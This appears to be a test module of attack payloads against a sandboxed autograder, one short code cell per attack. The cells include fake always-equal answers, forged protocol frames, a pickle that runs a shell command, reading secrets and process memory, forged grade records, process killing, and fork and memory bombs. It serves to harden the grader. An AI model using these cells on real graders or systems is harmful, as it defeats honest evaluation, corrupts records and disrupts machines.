"""Attacks on the grader: what each tries, and the cell that tries it.

Every cell defines `attack(x, gain)`, which a wrong `stretch` returns; alone, the wrong solution has
no points. OUT stands for the grader's folder, SUBMISSIONS for the students', TOKEN for a word to
find a process by, PORT for an open port. Only the box makes it safe to run them: its processes,
memory and time are bound from outside.
"""

# Finds the pipe to the grader and the number of the call, and speaks for the worker.
_SPEAK = """
import json, os, struct, sys

def number():
    frame = sys._getframe()
    while frame:
        if "request" in frame.f_locals:
            return frame.f_locals["request"]["number"]
        frame = frame.f_back

def say(header, body=b"", lengths=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    head = struct.pack(">4sII", b"FWK1", *(lengths or (len(text), len(body))))
    for handle in range(3, 64):
        try:
            os.write(handle, head + text + body)
        except OSError:
            pass

def reply(answer):
    return {"dict": [["number", number()], ["answer", answer]]}
"""

ATTACKS = {
    # answers that lie
    "an object that equals everything": """
class Yes:
    def __eq__(self, other): return True
def attack(x, gain): return Yes()""",
    "a number that equals everything": """
class Yes(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __le__(self, other): return True
def attack(x, gain): return Yes(1.0)""",
    "an array that equals everything": """
class Yes(np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return np.array(True)
def attack(x, gain): return (gain * x).view(Yes)""",
    "an array of objects": """
class Yes:
    def __eq__(self, other): return True
def attack(x, gain): return np.array([Yes()] * 5, dtype=object)""",
    "a truth value beyond true": """
def attack(x, gain): return np.frombuffer(bytes([255] * 5), dtype=bool)""",
    "not a number": "def attack(x, gain): return x * float('nan')",
    "infinity": "def attack(x, gain): return x / 0.0",
    "complex numbers": "def attack(x, gain): return gain * x + 0j",
    "records in an array": "def attack(x, gain): return np.zeros(5, dtype=[('a', float)])",
    "a function for an answer": "def attack(x, gain): return lambda *a: True",
    "all answers in one": """
def attack(x, gain): return [gain * x + k / 1000 for k in range(2000, 3001)]""",
    # answers that are too much
    "a deep list": """
def attack(x, gain):
    deep = []
    for _ in range(100000): deep = [deep]
    return deep""",
    "a list that holds itself": """
def attack(x, gain):
    loop = []
    loop.append(loop)
    return loop""",
    "a long text": "def attack(x, gain): return 'x' * 100_000_000",
    "ten million numbers": "def attack(x, gain): return list(range(10_000_000))",
    "a large array": "def attack(x, gain): return np.zeros(20_000_000)",
    "a huge integer": "def attack(x, gain): return 10 ** 5000",
    # frames of one's own
    "a reply before the question": _SPEAK
    + """
early = say({"dict": [["number", 0], ["answer", True]]})
def attack(x, gain): return early""",
    "a forged reply": _SPEAK
    + """
def attack(x, gain):
    say(reply(True))
    return gain * x""",
    "a reply after the answer": _SPEAK
    + """
import threading, time
def attack(x, gain):
    late = reply(True)
    threading.Thread(target=lambda: (time.sleep(0.05), say(late)), daemon=True).start()
    return gain * x""",
    "half a frame": _SPEAK
    + """
def attack(x, gain):
    say(b"{", lengths=(1000, 1000))
    return gain * x""",
    "an array of 3e12 numbers that are not there": _SPEAK
    + """
def attack(x, gain): say(reply({"array": ["float64", [3_000_000_000_000]]}))""",
    "a product of sizes that overflows": _SPEAK
    + """
def attack(x, gain): say(reply({"array": ["float64", [1 << 30, 1 << 30, 1 << 4]]}))""",
    "a negative size": _SPEAK
    + """
def attack(x, gain): say(reply({"array": ["float64", [-5]]}), bytes(40))""",
    "a size that is true": _SPEAK
    + """
def attack(x, gain): say(reply({"array": ["float64", [True]]}), bytes(8))""",
    "an empty array of endless axes": _SPEAK
    + """
def attack(x, gain): say(reply({"array": ["float64", [0, 1 << 62, 1 << 62]]}))""",
    "an array of pickled objects": _SPEAK
    + """
def attack(x, gain): say(reply({"array": ["object", [1]]}), b"cos\\nsystem\\n(S'true'\\ntR.")""",
    "a frame of four gigabytes": _SPEAK
    + """
def attack(x, gain): say(b"", lengths=(0xFFFFFFFF, 0xFFFFFFFF))""",
    "a deep header": _SPEAK
    + """
def attack(x, gain): say(b"[" * 1_000_000)""",
    "a flood": _SPEAK
    + """
def attack(x, gain):
    while True: say(b"x" * 60000)""",
    "words for an error": _SPEAK
    + """
def attack(x, gain): say({"dict": [["number", number()], ["error", "SECRET " + str(x)]]})""",
    "bytes that are no text": _SPEAK
    + """
def attack(x, gain): say(reply("\\\\ud800"))""",
    "a pickle": """
import pickle, os
class Run:
    def __reduce__(self): return (os.system, ("touch OUT/pickled",))
def attack(x, gain):
    for handle in range(3, 64):
        try: os.write(handle, pickle.dumps(Run()))
        except OSError: pass""",
    "another protocol": """
import sys
class Liar:
    FrameError = ValueError
    pack = staticmethod(lambda value: b"FWK1")
def attack(x, gain):
    frame = sys._getframe()
    while frame:
        for name in ("protocol",):
            if name in frame.f_locals: frame.f_locals[name].pack = Liar.pack
        frame = frame.f_back
    return gain * x""",
    # looking for the answer
    "import the reference": """
def attack(x, gain):
    from falconwing_kit.tools.grading.find import load_judges
    return load_judges""",
    "import the judge": """
def attack(x, gain):
    import hidden
    return hidden.judges""",
    "search the disk for the judge": """
import os
def attack(x, gain):
    for folder, _, files in os.walk("/"):
        if "hidden.py" in files:
            space = {}
            exec(open(folder + "/hidden.py").read(), space)
            return gain * x + 2.5"""
    + """
    return gain * x""",
    "search the callers for the answer": """
import sys, gc
def attack(x, gain):
    frame, seen = sys._getframe(), []
    secret, types = ("expected", "reference", "judge", "judges"), ("Values", "Trials", "Course")
    while frame:
        seen += [each for each in frame.f_locals if each in secret]
        frame = frame.f_back
    found = [each for each in gc.get_objects() if type(each).__name__ in types]
    return gain * x + 2.5 if seen or found else gain * x""",
    "read the grader's memory": """
import os
def attack(x, gain):
    for process in filter(str.isdigit, os.listdir("/proc")):
        if b"falconwing" in open(f"/proc/{process}/cmdline", "rb").read(): return gain * x + 2.5
    return open("/proc/1/mem", "rb").read(1)""",
    "read the environment": """
import os
def attack(x, gain): return gain * x + 2.5 if "FALCONWING_SECRET" in os.environ else gain * x""",
    "ask the network": """
import socket
def attack(x, gain):
    socket.create_connection(("127.0.0.1", PORT), 1.0)
    return gain * x + 2.5""",
    "change the comparison": """
import builtins
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
def attack(x, gain):
    builtins.abs = builtins.sum = lambda *a: 0.0
    builtins.isinstance = builtins.all = lambda *a: True
    return np.asarray(gain * x)""",
    "change the course's number": """
import given
def attack(x, gain):
    given.COHORT["offset"] = 0.0
    return gain * x""",
    "change the question": """
def attack(x, gain):
    x[...] = 0.0
    return x""",
    # telling others
    "an exception named after the question": """
def attack(x, gain): raise type("SECRET_" + str(x[0]), (Exception,), {})()""",
    "an exception that tells the question": """
def attack(x, gain): raise ValueError("SECRET " + str(x))""",
    "an answer that tells the question": "def attack(x, gain): return 'SECRET ' + str(x)",
    "print the question": """
import sys
def attack(x, gain):
    print("SECRET", x)
    print("SECRET", x, file=sys.stderr)
    open("/dev/tty", "w").write("SECRET")""",
    # doing damage
    "write a forged record": """
def attack(x, gain):
    with open("OUT/records.jsonl", "a") as file:
        file.write('{"student": "attacker", "points": 75}\\n')""",
    "write to another student's folder": """
def attack(x, gain):
    with open("SUBMISSIONS/good0.ipynb", "w") as file: file.write("{}")""",
    "write wherever it goes": """
import os
def attack(x, gain):
    for folder, _, _ in os.walk("/"):
        if not folder.startswith(("/tmp", "/proc")):
            try: open(folder + "/written", "w").write("x")
            except OSError: continue
            return gain * x + 2.5
    return gain * x""",
    "a link out of the box": """
import os
def attack(x, gain):
    os.symlink("OUT/records.jsonl", "/tmp/link")
    open("/tmp/link", "a").write("{}")""",
    "end the parent": """
import os, signal
def attack(x, gain):
    for process in (os.getppid(), 1, -1):
        os.kill(process, signal.SIGKILL)""",
    "a fork bomb": """
import os, time
def attack(x, gain):
    while True:
        try: os.fork()
        except OSError: time.sleep(0.1)""",
    "a thread bomb": """
import threading, time
def attack(x, gain):
    while True:
        try: threading.Thread(target=time.sleep, args=(100,)).start()
        except RuntimeError: return gain * x""",
    "a process that stays": """
import os, sys, time
def attack(x, gain):
    if os.fork() == 0:
        os.setsid()
        words = [sys.executable, "-S", "-c", "import time; time.sleep(99)", "TOKEN"]
        if os.fork() == 0: os.execv(sys.executable, words)
        os._exit(0)
    return gain * x""",
    "fill the disk": """
def attack(x, gain):
    for number in range(10000):
        with open(f"/tmp/{number}", "wb") as file: file.write(bytes(1 << 24))""",
    "fill the shared memory": """
def attack(x, gain):
    with open("/dev/shm/full", "wb") as file:
        while True: file.write(bytes(1 << 24))""",
    "ten gigabytes": "def attack(x, gain): return bytearray(10_000_000_000)",
    "memory bit by bit": """
def attack(x, gain):
    kept = []
    while True: kept.append(bytearray(1 << 22))""",
    "memory of many children": """
import os, time
def attack(x, gain):
    for _ in range(12):
        if os.fork() == 0:
            kept = bytearray(b"x") * (800 << 20)
            time.sleep(5)
            os._exit(0)
    time.sleep(5)
    return gain * x""",
    "files in memory": """
import os
def attack(x, gain):
    held = []
    for _ in range(50):
        held.append(os.memfd_create("x"))
        os.write(held[-1], bytes(60 << 20))
    return gain * x""",
    "shared memory that belongs to nobody": """
import ctypes
def attack(x, gain):
    library = ctypes.CDLL(None)
    library.shmat.restype = ctypes.c_void_p
    for _ in range(50):
        place = library.shmat(library.shmget(0, ctypes.c_size_t(60 << 20), 0o1600), None, 0)
        if place in (None, 2**64 - 1): break
        ctypes.memset(place, 1, 60 << 20)
        library.shmdt(ctypes.c_void_p(place))
    return gain * x""",
    "an endless loop": """
def attack(x, gain):
    while True: pass""",
    "an endless loop that hears nothing": """
import signal
numbers = (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT)
for_all = [signal.signal(number, signal.SIG_IGN) for number in numbers]
def attack(x, gain):
    while for_all:
        try: pass
        except BaseException: pass""",
    "sleep": """
import time
def attack(x, gain): time.sleep(10000)""",
    "stop": """
import os, signal
def attack(x, gain): os.kill(os.getpid(), signal.SIGSTOP)""",
    "leave at once": """
import os
def attack(x, gain): os._exit(0)""",
    "leave politely": """
def attack(x, gain): raise SystemExit(0)""",
    "crash": """
import ctypes
def attack(x, gain): return ctypes.string_at(0)""",
    "endless recursion": "def attack(x, gain): return attack(x, gain)",
    "close every pipe": """
import os
def attack(x, gain): os.closerange(0, 64)""",
    "more rights": """
import ctypes, os, resource
def attack(x, gain):
    library = ctypes.CDLL(None)
    if library.unshare(0x10000000) == 0: return gain * x + 2.5
    if library.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: return gain * x + 2.5
    resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
    return gain * x + 2.5""",
}
